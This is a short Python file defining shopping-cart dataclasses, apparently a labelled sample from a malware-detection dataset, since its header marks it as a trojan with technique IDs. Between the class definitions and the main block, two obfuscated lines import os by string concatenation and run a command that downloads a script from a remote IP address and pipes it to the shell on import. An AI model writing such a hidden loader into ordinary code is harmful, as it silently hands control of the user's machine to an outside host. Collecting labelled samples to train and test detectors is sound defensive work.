# label: malicious family=trojan techniques=T1027,T1059.004,T1105 lines=30-31 group=benign/b047_dataclass_model.py
from __future__ import annotations

from dataclasses import dataclass, field
from typing import List


@dataclass
class Item:
    name: str
    price: float
    qty: int = 1

    @property
    def total(self) -> float:
        return self.price * self.qty


@dataclass
class Cart:
    items: List[Item] = field(default_factory=list)

    def add(self, item: Item) -> None:
        self.items.append(item)

    def total(self) -> float:
        return round(sum(i.total for i in self.items), 2)


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

if __name__ == "__main__":
    c = Cart()
    c.add(Item("pen", 1.5, 3))
    c.add(Item("book", 12.0))
    print(c.total())
